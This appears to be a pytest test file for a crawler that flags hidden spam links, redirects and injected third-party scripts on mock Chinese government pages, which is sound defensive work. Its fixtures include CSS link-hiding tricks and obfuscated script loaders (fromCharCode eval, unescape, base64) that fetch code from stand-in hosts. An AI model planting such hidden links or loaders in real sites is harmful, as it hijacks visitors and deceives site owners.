"""The lines around the content, what is hidden, and what other hosts put in, on pages made up for one trait each."""

from datetime import date

import pytest

from crawler import layouts
from crawler.reading.html import Html
from crawler.reading.surroundings import Surroundings

ADDRESS = "http://www.yunshan.gov.cn/zwgk/tzgg/1.html"
ARTICLE = (
    "<h1>关于做好春耕工作的通知</h1><p>发布时间：2026-03-01</p><div id='zoom'>"
    + "<p>请各乡镇认真做好春耕备耕工作，确保粮食生产稳定。</p>" * 5
    + "{}</div>"
)
SPAM = '<a href="http://www.elsewhere.example/">某某小说网</a>'


def read(body: str, head: str = "") -> Surroundings:
    html = Html(f"<html><head>{head}</head><body>{body}</body></html>", ADDRESS, seen=date(2026, 3, 20))
    return layouts.pick(html).read(html).surroundings


def links(body: str, head: str = "") -> list[tuple[str, ...]]:
    return [hidden.links for hidden in read(body, head).hidden if hidden.links]


def test_the_foot_is_outside_and_the_main_text_is_not():
    found = read(ARTICLE.format("") + '<div class="foot">主办：云山县人民政府办公室</div>')
    assert "主办：云山县人民政府办公室" in found.outer
    assert not any("春耕备耕" in line for line in found.outer)


def test_rows_of_a_list_are_not_outside():
    rows = "".join(
        f'<li><a href="{n}.html">关于做好第{n}项工作的通知</a><span>2026-03-0{n}</span></li>'
        for n in range(1, 7)
    )
    found = read(f'<ul class="list">{rows}</ul><div class="foot">版权所有：云山县人民政府</div>')
    assert not any("项工作" in line for line in found.outer)
    assert "版权所有：云山县人民政府" in found.outer


def test_short_and_numeric_lines_are_dropped():
    found = read("<p>首页</p><p>2026年3月20日 星期五</p><p>12 / 34</p><p>欢迎访问云山县</p>")
    assert found.outer == ("欢迎访问云山县",)


def test_very_many_lines_leave_the_first_and_the_last():
    found = read("".join(f"<p>第{n}号栏目的名称是甲</p>" for n in range(500)))
    assert len(found.outer) == 200
    assert found.outer[-1].startswith("第499号")


@pytest.mark.parametrize(
    "style",
    [
        "display:none",
        "DISPLAY : none",
        "visibility: hidden;",
        "font-size:0px",
        "font-size: 1px",
        "opacity:0",
        "position:absolute;left:-9999px",
        "text-indent:-9999px",
        "height:0;overflow:hidden",
        "width:1px;height:1px;overflow:hidden",
        "color:#fff;background:#fff",
    ],
)
def test_links_in_an_element_hidden_by_its_style_are_seen(style):
    assert links(f'<div style="{style}">{SPAM}</div>') == [("http://www.elsewhere.example/",)]


@pytest.mark.parametrize(
    "style",
    [
        "font-size:12px",
        "font-size:1rem",
        "font-size:1.2em",
        "height:1em;overflow:hidden",
        "opacity:0.8",
        "left:-10px",
        "height:100%;overflow:hidden",
        "height:10px;overflow:hidden",
        "color:#fff;background:#c00",
        "border:none",
        "line-height:0",
    ],
)
def test_ordinary_styles_hide_nothing(style):
    assert not links(f'<div style="{style}">{SPAM}</div>')


def test_links_to_the_own_site_are_no_strange_links():
    own = '<a href="/a.html">某栏目</a><a href="http://fgj.yunshan.gov.cn/">县发改局</a>'
    assert not links(f'<div style="display:none">{own}</div>')


def test_the_hidden_attribute_noscript_and_a_tiny_marquee_hide():
    for body in (
        f"<div hidden>{SPAM}</div>",
        f"<noscript>{SPAM}</noscript>",
        f'<marquee width="1" height="1">{SPAM}</marquee>',
    ):
        assert links(body) == [("http://www.elsewhere.example/",)]


def test_links_between_two_scripts_that_write_a_hidden_element_are_seen():
    opened = """<script>document.write('<div style="display:none">')</script>"""
    assert links(f"{opened}{SPAM}<script>document.write('</div>')</script>")
    assert not links(
        f"<script>document.write('<div>')</script>{SPAM}<script>document.write('</div>')</script>"
    )


def test_an_element_that_a_script_hides_by_its_name_is_hidden():
    hider = "<script>document.getElementById('qq').style.display='none'</script>"
    assert links(f'<div id="qq">{SPAM}</div>{hider}')


def test_commented_links_with_words_are_seen_and_conditional_comments_are_not():
    assert read(f"<!-- {SPAM} -->").hidden[0].how.startswith("comment")
    assert not links(f"<!--[if lt IE 9]>{SPAM}<![endif]-->")
    assert not links('<!-- <a href="/old.html">原栏目</a> -->')


def test_a_link_without_words_in_the_main_text_is_seen():
    assert links(ARTICLE.format('<p>联系人<a href="http://www.elsewhere.example/"></a></p>'))


@pytest.mark.parametrize(
    "link",
    [
        '<a href="http://www.elsewhere.example/"><img src="/a.png"></a>',
        '<a class="icon" href="http://www.elsewhere.example/"></a>',
        '<a href="http://www.elsewhere.example/">查看原文</a>',
        '<a href="/b.html"></a>',
        '<a name="top"></a>',
    ],
)
def test_links_that_show_something_are_not_wordless(link):
    assert not links(ARTICLE.format(f"<p>{link}</p>"))


def test_hidden_words_are_no_outer_lines():
    found = read('<div style="display:none">网上投票活动正在进行</div><p>欢迎访问云山县</p>')
    assert found.outer == ("欢迎访问云山县",)
    assert found.hidden[0].text == "网上投票活动正在进行"


def test_a_hidden_element_names_itself():
    assert read(f'<div id="pop" class="win box" style="display:none">{SPAM}</div>').hidden[0].how == (
        "display:none div#pop.win.box"
    )


def test_scripts_and_frames_of_other_hosts_are_seen_with_their_addresses():
    body = '<script src="http://js.elsewhere.example/a.js"></script><iframe src="//v.elsewhere.example/p"></iframe>'
    found = read(body + '<script src="/js/own.js"></script><iframe src="head.html"></iframe>')
    assert [script.address for script in found.scripts] == ["http://js.elsewhere.example/a.js"]
    assert found.frames == ("http://v.elsewhere.example/p",)


def test_a_gateway_for_ipv6_hides_no_own_host():
    own = '<script src="http://www-yunshan-gov-cnxe2.v6.ipv6best.cn/js/a.js"></script>'
    assert not read(own).scripts


def test_what_a_script_says_in_disguise_is_told():
    codes = ",".join(str(ord(letter)) for letter in "<script src=http://e.example/x.js>")
    found = read(
        f"<script>eval(String.fromCharCode({codes}))</script>"
        "<script>document.write(unescape('%3Cscript src=%22http://f.example/y.js%22%3E'))</script>"
    )
    assert "e.example/x.js" in found.scripts[0].code.partition("⇒")[2]
    assert "f.example/y.js" in found.scripts[1].code.partition("⇒")[2]


def test_a_refresh_and_a_jump_to_another_host_are_seen():
    refresh = '<meta http-equiv="refresh" content="5;url=http://www.elsewhere.example/">'
    assert read("<p>甲</p>", refresh).scripts[0].code == "meta refresh: http://www.elsewhere.example/"
    jump = f"<p>{'欢迎访问' * 80}</p><script>location.href='http://www.elsewhere.example/'</script>"
    assert "elsewhere" in read(jump).scripts[0].code


@pytest.mark.parametrize(
    "code",
    [
        "document.write(new Date().getFullYear())",
        "location.href='/search.html'",
        "location.href='http://www.yunshan.gov.cn/m/'",
        "document.write(unescape(\"%3Cspan id='_ideConac'%3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/a/CA1.js'%3E\"))",
    ],
)
def test_ordinary_scripts_of_a_page_are_not_told(code):
    assert not read(f"<script>{code}</script><p>{'欢迎访问' * 80}</p>").scripts


def test_base_64_is_read():
    code = 'var s=atob("aHR0cDovL2UuZXhhbXBsZS94Lmpz");d.src=s;'
    assert "http://e.example/x.js" in read(f"<script>{code}</script>").scripts[0].code.partition("⇒")[2]
    assert not read('<script>var s=atob("AAECAwQFBgcICQ==")</script>').scripts
